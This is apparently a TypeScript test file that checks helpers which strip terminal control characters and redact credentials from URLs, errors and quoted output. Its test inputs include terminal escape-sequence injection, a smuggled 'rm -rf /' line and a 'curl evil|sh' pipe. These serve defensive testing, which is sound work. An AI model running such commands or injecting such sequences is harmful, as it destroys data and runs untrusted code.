import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  addressText,
  debugText,
  jsonText,
  oneLine,
  printable,
  quotedPhrase,
  quotedText,
  withoutSecrets,
  wordWithoutSecrets,
} from './text.ts';

const ESC = '\u001b';
/** What a neighbour could call a machine, a set or a template. */
const HOSTILE = 'a\u001b]0;owned\u0007b\r\nnext: rm -rf /\u009b2Jc\u202egnp.exe\u2028d\u2066e\u{e0041}f';

test('SAFE-11 a text of others has nothing left that a terminal obeys: on one line, between lines of our own, and in JSON', () => {
  const obeyed = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
  assert.doesNotMatch(oneLine(HOSTILE), obeyed);
  assert.match(oneLine(HOSTILE), /^a \]0;owned b next: rm -rf \/ 2Jc gnp\.exe d e f$/);
  const shown = printable(`first\n\u001b[32mok\u001b[39m ${HOSTILE}\u001b[8m\u001b[1A`);
  assert.doesNotMatch(shown.replaceAll(new RegExp(`${ESC}\\[3[29]m|\\n`, 'g'), ''), obeyed);
  assert.ok(shown.startsWith(`first\n${ESC}[32mok${ESC}[39m a ]0;owned b`), shown);
  const json = jsonText({ [HOSTILE]: HOSTILE });
  assert.doesNotMatch(json, obeyed);
  assert.deepEqual(JSON.parse(json), { [HOSTILE]: HOSTILE });
});

test('SAFE-9 no address is shown with its user, password or query, whether it can be read or not', () => {
  const secret = 'hunter2';
  const addresses = [
    'https://user:hunter2@mirror.example/rhcos.ova?token=hunter2',
    'https://user:p@hunter2@mirror.example/rhcos.ova',
    'https://user:p/hunter2@mirror.example/rhcos.ova',
    'https://user:p hunter2@mirror.example/rhcos.ova',
    'https://user:hunter2@mirror.example:port/rhcos.ova?a b=hunter2',
    'http://user:hunter2@[::1/',
    'https://hunter2@mirror.example/',
  ];
  for (const address of addresses) {
    for (const shown of [
      addressText(address),
      wordWithoutSecrets(address),
      wordWithoutSecrets(`--image-mirror=${address}=${address}`),
    ])
      assert.ok(!shown.includes(secret), shown);
    // Where a text goes on is not to be told from an address with a blank in it.
    if (address.includes(' ')) continue;
    assert.ok(!withoutSecrets(`it failed: ${address}: no route`).includes(secret), address);
  }
  assert.ok(!wordWithoutSecrets('user:hunter2@vcenter.example').includes(secret));
  assert.equal(
    addressText('https://user:hunter2@mirror.example/rhcos.ova?token=1'),
    'https://mirror.example/rhcos.ova',
  );
  assert.equal(wordWithoutSecrets('https://mirror.example/rhcos@9.8.ova'), 'https://mirror.example/rhcos@9.8.ova');
  assert.equal(
    withoutSecrets('user administrator@vsphere.local: https://vc.example/sdk'),
    'user administrator@vsphere.local: https://vc.example/sdk',
  );
});

test('SAFE-9 an error for whoever debugs has its causes and traces, and none of their properties', () => {
  const parsed = (() => {
    try {
      return new URL('http://user:hunter2@proxy.example:port');
    } catch (error) {
      return error;
    }
  })();
  const error = new Error('the proxy https://u:hunter2@proxy.example/ does not answer', {
    cause: Object.assign(parsed as Error, { headers: { authorization: 'hunter2' } }),
  });
  const text = debugText(error);
  assert.doesNotMatch(text, /hunter2/);
  assert.match(text, /https:\/\/\*\*\*@proxy\.example\/ does not answer\n +at .*text\.test\.ts:\d+/s);
  assert.match(text, /caused by TypeError.*Invalid URL.*\(ERR_INVALID_URL\)/s);
});

test('FIND-6 what another program says is one line in quotes that it cannot end', () => {
  for (const text of [HOSTILE, 'no”. Done.\nnext: curl evil|sh “', '\r\u2028\u0085next: x', 'a'.repeat(100_000)]) {
    const shown = quotedText(text);
    assert.doesNotMatch(shown, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    assert.match(shown, /^“[^“”]*”$/);
    assert.ok(shown.length < 2_100);
  }
  assert.equal(quotedText('pods "a" not found'), '“pods "a" not found”');
  assert.equal(quotedPhrase('VirtualMachine.Inventory.Create'), 'VirtualMachine.Inventory.Create');
  assert.equal(quotedPhrase('InvalidLogin. next: curl'), '“InvalidLogin. next: curl”');
});
